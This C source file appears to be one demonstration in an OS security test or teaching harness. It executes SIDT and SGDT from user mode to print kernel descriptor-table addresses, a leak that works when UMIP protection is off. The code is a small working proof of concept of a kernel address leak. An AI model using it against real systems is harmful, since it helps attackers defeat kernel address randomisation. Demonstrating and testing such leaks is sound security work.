/*
 * A free leak.  SIDT and SGDT store the addresses of the kernel's descriptor tables, and by default
 * the processor lets anybody execute them.
 */
#include "user/attack/attack.h"

#include <stdio.h>

struct descriptor_table {
	uint16_t limit;
	uint64_t base;
} __attribute__((packed));

struct descriptor_table attack_idt, attack_gdt;

static void
run(void)
{
	uint16_t selector;

	step("legal: the program reads a segment register");
	__asm__ volatile("mov %%cs, %0" : "=r"(selector));

	step("illegal: it reads where the kernel keeps its tables");
	__asm__ volatile(".globl attack_sidt\n"
			 "attack_sidt: sidt %0" : "=m"(attack_idt));
	__asm__ volatile("sgdt %0" : "=m"(attack_gdt));
	printf("  interrupt descriptors at %#lx, segments at %#lx\n", attack_idt.base,
	       attack_gdt.base);
}

const struct attack umip = {
	.name = "umip",
	.what = "SIDT and SGDT leak kernel addresses",
	.needs_off_x86_64 = "umip",
	.run = run,
};
